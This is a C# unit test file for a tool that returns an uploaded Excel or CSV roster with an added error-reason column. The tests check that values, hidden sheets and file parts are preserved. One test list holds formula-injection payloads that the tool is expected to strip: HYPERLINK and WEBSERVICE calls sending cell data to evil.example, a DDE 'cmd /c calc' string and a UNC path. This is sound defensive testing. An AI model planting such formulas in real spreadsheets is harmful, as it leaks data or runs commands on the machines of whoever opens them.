using System.IO.Compression;
using System.Text.RegularExpressions;
using System.Xml.Linq;
using ExcelDataReader;
using KzzqFlowParty.Workbooks.Reading;
using KzzqFlowParty.Workbooks.Writing.Annotated;

namespace KzzqFlowParty.Workbooks.Tests.Reading;

public sealed class AnnotatedOriginalTests
{
    private static readonly XNamespace Main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

    [Theory]
    [InlineData(Rosters.Baokang, false)]
    [InlineData(Rosters.Baolongshan, false)]
    [InlineData(Rosters.Shebotu, true)]
    public void The_file_comes_back_with_its_values_and_one_column_more(string name, bool regenerated)
    {
        var book = Rosters.Read(name);
        var (file, bytes) = Annotate(File.ReadAllBytes(Rosters.PathOf(name)), name, book);
        Assert.Equal((regenerated, Path.GetFileNameWithoutExtension(name) + "-错误原因.xlsx"), (file.Regenerated, file.FileName));
        var (before, after) = (Values(File.ReadAllBytes(Rosters.PathOf(name))), Values(bytes));
        Assert.Equal(before.Keys, after.Keys);
        foreach (var sheet in book.Sheets)
        {
            var width = before[sheet.Name].Max(r => r.Count);
            var added = after[sheet.Name].Select(r => sheet.IsRead && r.Count > width ? r[width] : null).ToList();
            Assert.Equal(before[sheet.Name], after[sheet.Name].Select(r => (List<object?>)[.. r.Take(width)]));
            var expected = sheet.Rows.Where(r => r.Errors.Count > 0).ToDictionary(r => r.Number, r => (object?)r.ErrorText);
            if (sheet.IsRead) expected[sheet.HeaderRow!.Value + sheet.HeaderRows - 1] = "错误原因";
            Assert.Equal(expected, added.Select((text, at) => (Row: at + 1, text)).Where(c => c.text is not null).ToDictionary(c => c.Row, c => c.text));
        }
    }

    [Theory]
    [InlineData(Rosters.Baolongshan)]
    [InlineData(Rosters.Shebotu)]
    public void The_returned_file_is_read_like_the_original_and_annotated_in_the_same_column(string name)
    {
        var book = Rosters.Read(name);
        var (file, once) = Annotate(File.ReadAllBytes(Rosters.PathOf(name)), name, book);
        var again = Rosters.Read(once, file.FileName).OrThrow();
        Assert.Equal(DryRunReport.ToJson(book), DryRunReport.ToJson(again));
        var outflow = again.Sheets.Single(s => s.Name == "流出");
        Assert.Equal(book.Sheets.Single(s => s.Name == "流出").Columns.Count, outflow.ReasonColumn);

        using var cleared = new MemoryStream();
        AnnotatedOriginal.Write(
            new MemoryStream(once),
            file.FileName,
            [SheetReasons.Of([outflow], new Dictionary<int, string> { [outflow.Rows[1].Number] = "只剩这一条" })],
            cleared).OrThrow();
        var column = Values(cleared.ToArray())["流出"].Select(r => r[outflow.ReasonColumn!.Value]).Where(v => v is not null);
        Assert.Equal(["错误原因", "只剩这一条"], column);
    }

    [Fact]
    public void Every_other_part_comes_back_byte_for_byte()
    {
        var original = File.ReadAllBytes(Rosters.PathOf(Rosters.Baolongshan));
        var (_, bytes) = Annotate(original, Rosters.Baolongshan, Rosters.Read(Rosters.Baolongshan));
        var (before, after) = (Parts(original), Parts(bytes));
        Assert.Equal(before.Keys, after.Keys);
        Assert.Equal(
            ["xl/styles.xml", "xl/worksheets/sheet2.xml", "xl/worksheets/sheet3.xml"],
            before.Keys.Where(p => !before[p].SequenceEqual(after[p])).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void What_the_sheet_says_about_itself_stays_true()
    {
        var book = new Book()
            .SheetXml(
                "流出",
                $"""<dimension ref="A1:I2"/><cols><col min="1" max="2" width="5"/><col min="9" max="16384" width="7"/></cols>"""
                    + $"""<sheetData>{Book.RowXml(1, Roster.Header)}{Book.RowXml(2, Roster.Person(id: "1"))}</sheetData>""")
            .ToBytes();
        var sheet = SheetXml(Annotate(book, "表.xlsx", Rosters.Read(book, "表.xlsx").OrThrow()).Bytes);
        Assert.Equal("A1:J2", sheet.Element(Main + "dimension")!.Attribute("ref")!.Value);
        Assert.Equal(
            ["1-2", "9-9", "10-10", "11-16384"], sheet.Descendants(Main + "col").Select(c => $"{c.Attribute("min")!.Value}-{c.Attribute("max")!.Value}"));
        var added = sheet.Descendants(Main + "c").Single(c => c.Attribute("r")!.Value == "J2");
        Assert.Equal("3", added.Attribute("s")!.Value);
    }

    [Fact]
    public void Rows_without_numbers_empty_rows_and_formatted_cells_to_the_last_column_are_handled()
    {
        var inside =
            $"<sheetData><row spans=\"1:9\">{Cells(Roster.Header)}</row><row/><row>{Cells(Roster.Person(id: "1"))}<c r=\"XFD3\" s=\"1\"/></row></sheetData>";
        var book = new Book().SheetXml("流出", inside).ToBytes();
        var read = Rosters.Read(book, "表.xlsx").OrThrow();
        var (_, bytes) = Annotate(book, "表.xlsx", read);
        Assert.DoesNotContain("spans", SheetXml(bytes).ToString(), StringComparison.Ordinal);
        Assert.Equal("错误原因", Values(bytes)["流出"][0][9]);
        Assert.Equal(read.Sheets[0].Rows[0].ErrorText, Values(bytes)["流出"][2][9]);

        static string Cells(object?[] cells) => Regex.Replace(Book.RowXml(1, cells), " r=\"[A-Z]*1\"|</?row>", "", RegexOptions.None, TimeSpan.FromSeconds(1))
            .Replace("<row>", "", StringComparison.Ordinal);
    }

    [Fact]
    public void A_hidden_sheet_stays_hidden_and_a_carriage_return_stays_in_its_cell()
    {
        var book = new Book().Sheet("流出", Roster.Header, Roster.Person(id: "1", moved: new Raw("<c r=\"@\" t=\"inlineStr\"><is><t>a&#13;b</t></is></c>")))
            .Sheet("旧表", ["x"])
            .Hidden()
            .ToBytes();
        var (_, bytes) = Annotate(book, "表.xlsx", Rosters.Read(book, "表.xlsx").OrThrow());
        Assert.Equal("a\rb", Values(bytes)["流出"][1][7]);
        Assert.Equal([false, true], Rosters.Read(bytes, "表.xlsx").OrThrow().Sheets.Select(s => s.Hidden));
    }

    public static TheoryData<string> ReachingOut =>
    [
        "HYPERLINK(&quot;http://evil.example/&quot;&amp;C2,&quot;x&quot;)", "WEBSERVICE(&quot;http://evil.example/&quot;&amp;E2)", "cmd|'/c calc'!A1",
        "[1]Sheet1!A1", "'\\\\evil.example\\[a.xlsx]Sheet1'!A1", "_xlfn.IMAGE(C2)", "RTD(&quot;x&quot;,,&quot;y&quot;)", "hyperlink (C2)",
        "IMPORTDATA(C2)", "_xlfn.WEBSERVICE\n(C2)", "_xlfn._xlws.FILTERXML(C2,C2)", "INDIRECT(&quot;[a.xlsx]S!A1&quot;)", "CALL(&quot;k&quot;,C2)",
    ];

    /// <summary>The value stays, as the person saw it; what the workbook computes within itself stays a formula.</summary>
    [Theory, MemberData(nameof(ReachingOut))]
    public void No_formula_that_reaches_outside_comes_back(string formula)
    {
        var book = new Book()
            .Sheet("流出", Roster.Header, Roster.Person(id: "1", moved: new Raw($"<c r=\"@\" t=\"str\"><f>{formula}</f><v>2018-03-23</v></c>")))
            .Sheet(
                "附表",
                [new Raw("<c r=\"@\"><f>SUM(1,1)</f><v>2</v></c>"), new Raw($"<c r=\"@\"><f t=\"shared\" ref=\"B1:C1\" si=\"0\">{formula}</f><v>1</v></c>"),
                    new Raw("<c r=\"@\"><f t=\"shared\" si=\"0\"/><v>1</v></c>")])
            .Replacing(
                "</sheets>",
                $"</sheets><definedNames><definedName name=\"x\">{formula}</definedName><definedName name=\"y\">附表!$A$1</definedName></definedNames>")
            .Replacing(
                "</Types>",
                """<Override PartName="/xl/calcChain.xml" ContentType="a"/><Override PartName="/xl/connections.xml" ContentType="b"/></Types>""")
            .Replacing(
                "<Relationship Id=\"rId90\"",
                """<Relationship Id="r1" Type="c" Target="calcChain.xml"/><Relationship Id="r2" Type="d" Target="connections.xml"/>"""
                    + "<Relationship Id=\"rId90\"")
            .With("xl/calcChain.xml", """<calcChain xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><c r="H2" i="1"/></calcChain>""")
            .With("xl/connections.xml", """<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1"/></connections>""")
            .ToBytes();
        var parts = Parts(Annotate(book, "表.xlsx", Rosters.Read(book, "表.xlsx").OrThrow()).Bytes);
        var texts = parts.ToDictionary(p => p.Key, p => System.Text.Encoding.UTF8.GetString(p.Value));

        Assert.DoesNotContain(texts.Keys, k => k is "xl/calcChain.xml" or "xl/connections.xml");
        foreach (var part in new[] { "[Content_Types].xml", "xl/_rels/workbook.xml.rels" })
        {
            Assert.DoesNotContain("calcChain", texts[part], StringComparison.Ordinal);
            Assert.DoesNotContain("connections", texts[part], StringComparison.Ordinal);
        }

        var sheets = new[] { 1, 2 }.Select(n => XDocument.Load(new MemoryStream(parts[$"xl/worksheets/sheet{n}.xml"]))).ToList();
        Assert.Equal(["SUM(1,1)"], sheets.SelectMany(s => s.Descendants(Main + "f")).Select(f => f.Value));
        Assert.Contains("2018-03-23", sheets[0].Descendants(Main + "v").Select(v => v.Value));
        Assert.Equal(["2", "1", "1"], sheets[1].Descendants(Main + "v").Select(v => v.Value));
        Assert.Equal(["#REF!", "附表!$A$1"], XDocument.Load(new MemoryStream(parts["xl/workbook.xml"])).Descendants(Main + "definedName").Select(n => n.Value));
    }

    [Fact]
    public void A_csv_comes_back_as_a_workbook()
    {
        var csv = "姓名,性别,公民身份号码\n=1+1,女,15052119850627194X\n"u8.ToArray();
        var (file, bytes) = Annotate(csv, "流出.csv", Rosters.Read(csv, "流出.csv").OrThrow());
        Assert.True(file.Regenerated);
        Assert.Equal([
            ["姓名", "性别", "公民身份号码", "错误原因"],
            ["=1+1", "女", "15052119850627194X", "姓名（A2）：姓名中有“=”，请改为姓名中的字"],
        ], Values(bytes)["Sheet1"]);
    }

    private static (AnnotatedFile File, byte[] Bytes) Annotate(byte[] original, string name, RosterBook book)
    {
        using var output = new MemoryStream();
        var file = AnnotatedOriginal.Write(new MemoryStream(original), name, [.. book.ReadSheets.GroupBy(s => s.Name).Select(Reasons)], output).OrThrow();
        return (file, output.ToArray());
    }

    private static SheetReasons Reasons(IEnumerable<RosterSheet> tables) => SheetReasons.Of(
        [.. tables], tables.SelectMany(t => t.Rows).Where(r => r.ErrorText.Length > 0).ToDictionary(r => r.Number, r => r.ErrorText));

    private static XElement SheetXml(byte[] book)
    {
        using var zip = new ZipArchive(new MemoryStream(book));
        using var part = zip.GetEntry("xl/worksheets/sheet1.xml")!.Open();
        return XDocument.Load(part).Root!;
    }

    private static Dictionary<string, byte[]> Parts(byte[] book)
    {
        using var zip = new ZipArchive(new MemoryStream(book));
        return zip.Entries.ToDictionary(e => e.FullName, e =>
        {
            using var copy = new MemoryStream();
            using var part = e.Open();
            part.CopyTo(copy);
            return copy.ToArray();
        });
    }

    /// <summary>The book's values as the reading library hands them out, without our own reading.</summary>
    private static Dictionary<string, List<List<object?>>> Values(byte[] book)
    {
        System.Text.Encoding.RegisterProvider(System.Text.CodePagesEncodingProvider.Instance);
        using var reader = ExcelReaderFactory.CreateReader(new MemoryStream(book));
        var sheets = new Dictionary<string, List<List<object?>>>();
        do
        {
            var rows = sheets[reader.Name] = [];
            while (reader.Read()) rows.Add([.. Enumerable.Range(0, Math.Min(reader.FieldCount, 20)).Select(c => reader.GetValue(c))]);
        }
        while (reader.NextResult());

        return sheets;
    }
}
